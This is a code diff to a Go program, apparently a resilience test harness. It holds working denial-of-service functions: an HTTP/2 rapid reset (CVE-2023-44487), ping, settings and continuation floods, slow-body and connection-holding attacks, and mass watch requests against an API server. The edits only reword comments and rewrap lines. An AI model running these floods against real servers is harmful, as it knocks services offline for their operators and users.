@@ -14,13 +14,13 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// dial opens a TLS connection for a protocol. It has no identity.
+// dial opens a TLS connection for an application protocol, without a client certificate.
 func dial(ctx context.Context, host, protocol string) (net.Conn, error) {
 	d := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}}}
 	return d.DialContext(ctx, "tcp", host)
 }
 
-// connections returns an attack that holds n connections, and opens each one again when it breaks.
+// connections holds n connections until ctx ends, and replaces each one that breaks. It returns the counts of results.
 func connections(ctx context.Context, host, protocol string, n int, use func(context.Context, net.Conn) error) string {
 	raiseLimit()
 	var counts counter
@@ -44,7 +44,7 @@ func connections(ctx context.Context, host, protocol string, n int, use func(con
 	return counts.String()
 }
 
-// watches opens a thousand watches with initial lists, and opens them again when they end.
+// watches holds 1000 watches that start with all objects, and replaces each one that ends.
 func watches(ctx context.Context, host string) string {
 	var counts counter
 	var all sync.WaitGroup
@@ -52,7 +52,8 @@ func watches(ctx context.Context, host string) string {
 	for range 1000 {
 		all.Go(func() {
 			for ctx.Err() == nil {
-				code, _, err := do(ctx, c, "GET", "https://"+host+own+"configmaps?watch=true&timeoutSeconds=5", jsonType, nil)
+				code, _, err := do(ctx, c, "GET", "https://"+host+own+"configmaps?watch=true&timeoutSeconds=5",
+					jsonType, nil)
 				counts.add(code, err)
 			}
 		})
@@ -61,10 +62,11 @@ func watches(ctx context.Context, host string) string {
 	return counts.String()
 }
 
-// slowBodies sends bodies of 3 MiB, a byte a second.
+// slowBodies sends bodies of almost 3 MiB at one byte per second.
 func slowBodies(ctx context.Context, host string) string {
 	return connections(ctx, host, "http/1.1", 500, func(ctx context.Context, c net.Conn) error {
-		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer stranger\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", reviews, largeBody)
+		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer stranger\r\nContent-Type: "+
+			"application/json\r\nContent-Length: %d\r\n\r\n{", reviews, largeBody)
 		for ctx.Err() == nil {
 			if _, err := c.Write([]byte(" ")); err != nil {
 				return err
@@ -92,7 +94,7 @@ func idleConnections(ctx context.Context, host string) string {
 	})
 }
 
-// flood returns an attack by frames of HTTP/2 on a few connections: as many as the server accepts.
+// flood returns an attack that sends HTTP/2 frames on four connections as fast as the server reads them.
 func flood(step func(f *http2.Framer, headers []byte, n uint32) error) func(context.Context, string) string {
 	return func(ctx context.Context, host string) string {
 		return connections(ctx, host, "h2", 4, func(ctx context.Context, c net.Conn) error {
@@ -118,7 +120,8 @@ func flood(step func(f *http2.Framer, headers []byte, n uint32) error) func(cont
 func requestHeaders(host string) []byte {
 	var b bytes.Buffer
 	e := hpack.NewEncoder(&b)
-	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", own + "configmaps"}, {":authority", host}, {"authorization", "Bearer attacker"}} {
+	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", own + "configmaps"},
+		{":authority", host}, {"authorization", "Bearer attacker"}} {
 		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
 	}
 	return b.Bytes()
@@ -126,16 +129,17 @@ func requestHeaders(host string) []byte {
 
 // reset opens a stream and resets it at once (CVE-2023-44487).
 func reset(f *http2.Framer, headers []byte, n uint32) error {
-	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: n, BlockFragment: headers, EndStream: true, EndHeaders: true}); err != nil {
+	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: n, BlockFragment: headers, EndStream: true,
+		EndHeaders: true}); err != nil {
 		return err
 	}
 	return f.WriteRSTStream(n, http2.ErrCodeCancel)
 }
 
-// ping sends a ping, which has to be answered (CVE-2019-9512).
+// ping sends a ping, to which the server must respond (CVE-2019-9512).
 func ping(f *http2.Framer, _ []byte, _ uint32) error { return f.WritePing(false, [8]byte{}) }
 
-// settings sends settings, which have to be acknowledged (CVE-2019-9515).
+// settings sends settings, which the server must acknowledge (CVE-2019-9515).
 func settings(f *http2.Framer, _ []byte, _ uint32) error { return f.WriteSettings() }
 
 // continuation sends headers that never end (CVE-2023-45288).
